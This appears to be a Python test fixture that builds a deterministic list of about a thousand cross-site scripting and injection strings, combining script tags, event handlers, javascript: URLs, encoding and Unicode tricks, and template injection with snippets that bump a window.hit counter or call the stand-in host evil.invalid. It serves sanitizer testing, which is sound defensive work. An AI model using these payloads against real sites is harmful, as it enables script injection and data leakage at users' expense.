"""A thousand hostile strings: what people write who want a page to run a script, load something or break apart.

Whatever of them runs sets `window.hit` or asks `HOST` for something; a test looks for both. The list is the same every time.
"""

from itertools import islice, product

HOST = "evil.invalid"
HIT = "window.hit=(window.hit||0)+1"
CODE = (HIT, f"{HIT};fetch('//{HOST}/f')", f"new Image().src='//{HOST}/i';{HIT}", f"top.{HIT}", f"setTimeout('{HIT}')")
FORMS = (
    "<script>{code}</script>",
    "<ScRiPt >{code}</sCrIpT>",
    "</script><script>{code}</script>",
    "</textarea><script>{code}</script>",
    "</title><script>{code}</script>",
    "</style><script>{code}</script>",
    "--><script>{code}</script>",
    "]]><script>{code}</script>",
    "<script src=//evil.invalid/x.js></script>",
    "<img src=x onerror={code}>",
    "<img src=x onerror='{code}'>",
    '"><img src=x onerror="{code}">',
    "'><img src=x onerror='{code}'>",
    "<img/src/onerror={code}>",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{code}</script></svg>#x'>",
    "<math><mtext><script>{code}</script>",
    "<iframe srcdoc='<script>{code}</script>'>",
    "<iframe src='javascript:{code}'>",
    "<object data='javascript:{code}'>",
    "<embed src='javascript:{code}'>",
    "<a href='javascript:{code}'>open</a>",
    "[open](javascript:{code})",
    "javascript:{code}",
    "java\tscript:{code}",
    "data:text/html,<script>{code}</script>",
    "<body onload={code}>",
    "<input autofocus onfocus={code}>",
    "<details open ontoggle={code}>",
    "<video><source onerror={code}></video>",
    "<marquee onstart={code}>",
    "<style>@import '//evil.invalid/c.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/l.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/m'>",
    "<base href='//evil.invalid/'>",
    "<form action='//evil.invalid/p'><button autofocus>send</button></form>",
    "<img src='//evil.invalid/pixel.gif'>",
    '" onmouseover="{code}" x="',
    "' autofocus onfocus='{code}' x='",
    "` onclick=`{code}`",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "%3Cscript%3E{code}%3C/script%3E",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "<scr\u200bipt>{code}</script>",
    "\u202e<script>{code}</script>\u202c",
    "＜script＞{code}＜/script＞",
    "{{{{constructor.constructor('{code}')()}}}}",
    "${{{code}}}",
    "#{{{code}}}",
    "';{code};'",
    '";{code};"',
    "*/{code}/*",
    "</svg><svg onload={code}>",
    "<template><img src=x onerror={code}></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<xss style='background:url(//evil.invalid/b)'>",
    "\x1b]0;title\x07\x1b[2J{code}",
    "\u2028{code}\u2029",
)
BEFORE = ("", "buy now ", "{}[]()", "\n\n", "a" * 300)


def hostile_strings(count: int = 1_000) -> list[str]:
    """The first `count` combinations of form, code and prefix; all of them are different."""
    texts = (before + form.format(code=code) for code, before, form in product(CODE, BEFORE, FORMS))
    return list(islice(dict.fromkeys(texts), count))
